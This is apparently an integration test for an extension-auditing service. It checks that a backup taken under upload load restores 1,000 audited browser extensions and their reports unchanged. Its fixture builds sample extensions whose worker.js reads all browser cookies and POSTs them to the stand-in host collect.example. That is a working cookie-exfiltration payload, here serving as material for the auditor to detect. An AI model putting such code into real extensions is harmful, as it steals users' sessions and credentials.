import assert from 'node:assert/strict';
import { mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { buildZip } from '../../../engine/fixtures/packages/build-zip.ts';
import { temporaryFolder } from '../../../server/src/testing/temporary-folder.ts';
import { runBinary } from '../run-binary.ts';
import { startServe, type ServeProcess } from '../testing/serve-process.ts';

const extensions = 1_000;
const reports = 20;
const owner = { email: 'owner@example.org', password: 'a long enough pass phrase' };

it('a backup of 1,000 extensions under load brings back each of them, and reports bit for bit', async (t) => {
  await using home = await temporaryFolder();
  const folder = home.path;
  const [old, next, backups] = ['old', 'next', 'backups'].map((name) => join(folder, name)) as [
    string,
    string,
    string,
  ];
  await mkdir(join(folder, 'packages'));
  for (let number = 0; number < extensions; number += 1) {
    await writeFile(join(folder, `packages/${number}.zip`), packageOf(`Made ${number}`));
  }
  const run = async (dataDir: string, ...args: readonly string[]): Promise<string> => {
    const { code, stdout, stderr } = await runBinary(args, {
      cwd: folder,
      env: { EXTAUDIT_DATA_DIR: dataDir },
    });
    assert.equal(code, 0, stderr);
    return stdout;
  };
  const listed = async (dataDir: string): Promise<readonly string[]> =>
    (await run(dataDir, 'list', '--format', 'jsonl', '--sort', 'name', '--order', 'asc'))
      .split('\n')
      .filter((line) => line.includes('"Made '));

  const ended = new AbortController();
  const promised = await (async () => {
    await using service = await startServe(folder, { env: { EXTAUDIT_DATA_DIR: old } });
    const cookie = await setUp(service);
    const imported = await run(old, 'import', 'packages', '--quiet');
    const ids = imported.match(/\b[a-p]{32}\b/g) ?? [];
    assert.equal(new Set(ids).size, extensions);
    await run(old, 'audit', ...ids.slice(0, reports));
    const texts = await Promise.all(
      ids.slice(0, reports).map((id) => untilReported(service, cookie, id)),
    );
    // The other 980 are audited, and more come, while the backup is made.
    await run(old, 'audit');
    const load = (async () => {
      for (let number = 0; !ended.signal.aborted; number += 1) {
        const form = new FormData();
        form.set('file', new Blob([packageOf(`Loaded ${number}`)]), 'extension.zip');
        const url = `${service.url}/api/v1/extensions`;
        await (await fetch(url, { method: 'POST', headers: { cookie }, body: form })).text();
      }
    })();
    const made = await run(old, 'backup', backups);
    ended.abort();
    await load;
    const lines = await listed(old);
    const audited = lines.filter((line) => line.includes('"audit_state":"audited"')).length;
    t.diagnostic(`${made.trim()}; ${audited} audited when it was done`);
    return { ids: ids.slice(0, reports), texts, lines };
  })();
  assert.equal(promised.lines.length, extensions);
  await rm(old, { recursive: true });

  // The secrets' key was on the old machine; this service has sealed nothing.
  await run(next, 'restore', backups);
  const restored = await listed(next);
  assert.deepEqual(restored.map(nameOf), promised.lines.map(nameOf));
  const hashes = (await readdir(join(next, 'packages'), { recursive: true })).filter((path) =>
    /[0-9a-f]{64}$/.test(path),
  );
  assert.ok(hashes.length >= extensions, `${hashes.length} packages`);
  await using service = await startServe(folder, { env: { EXTAUDIT_DATA_DIR: next } });
  const cookie = await signIn(service);
  for (const [index, id] of promised.ids.entries()) {
    assert.equal(await untilReported(service, cookie, id), promised.texts[index]);
    const files = `${service.url}/api/v1/extensions/${id}/versions/1.0/files`;
    assert.match(await (await fetch(files, { headers: { cookie } })).text(), /worker\.js/);
  }
});

/** What of a line no audit changes. */
function nameOf(line: string): object {
  const { extension_id: id, name, version } = JSON.parse(line) as Record<string, unknown>;
  return { id, name, version };
}

function packageOf(name: string): Uint8Array<ArrayBuffer> {
  const manifest = {
    manifest_version: 3,
    name,
    version: '1.0',
    permissions: ['tabs', 'cookies'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'worker.js' },
  };
  const code = `chrome.cookies.getAll({}, (all) =>
    fetch('https://collect.example/${name.replaceAll(' ', '/')}', { method: 'POST', body: JSON.stringify(all) }));`;
  return Uint8Array.from(
    buildZip([
      { name: 'manifest.json', contents: JSON.stringify(manifest) },
      { name: 'worker.js', contents: code },
    ]),
  );
}

/** The text of the answer, as it comes. */
async function untilReported({ url }: ServeProcess, cookie: string, id: string): Promise<string> {
  for (let tries = 0; tries < 600; tries += 1) {
    const answer = await fetch(`${url}/api/v1/extensions/${id}/versions/1.0/analysis`, {
      headers: { cookie },
    });
    const text = await answer.text();
    if (text.includes('"status":"completed"')) return text;
    await sleep(200);
  }
  throw new Error(`${id} was not audited within two minutes`);
}

async function setUp({ setupUrl = '' }: ServeProcess): Promise<string> {
  const { origin, searchParams } = new URL(setupUrl);
  return cookieOf(`${origin}/api/v1/auth/setup`, { code: searchParams.get('code'), ...owner });
}

async function signIn({ url }: ServeProcess): Promise<string> {
  return cookieOf(`${url}/api/v1/auth/login`, owner);
}

async function cookieOf(url: string, body: object): Promise<string> {
  const headers = { 'content-type': 'application/json' };
  const answer = await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) });
  assert.ok(answer.ok, await answer.text());
  return /session=[^;]+/.exec(answer.headers.get('set-cookie') ?? '')?.[0] ?? '';
}
